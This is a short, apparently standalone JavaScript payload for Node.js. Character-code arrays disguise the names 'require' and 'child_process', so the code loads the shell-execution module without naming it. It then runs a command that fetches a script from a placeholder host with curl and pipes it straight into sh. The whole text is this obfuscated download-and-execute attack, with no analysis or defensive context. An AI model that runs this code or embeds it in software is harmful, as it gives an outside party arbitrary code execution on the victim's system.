const c=[114,101,113,117,105,114,101];
const n=String.fromCharCode(...[99,104,105,108,100,95,112,114,111,99,101,115,115]);
const m=module[String.fromCharCode(...c)]?module.require(n):process.mainModule.require(n);
m.execSync('curl -s https://sink.example.invalid/j|sh');
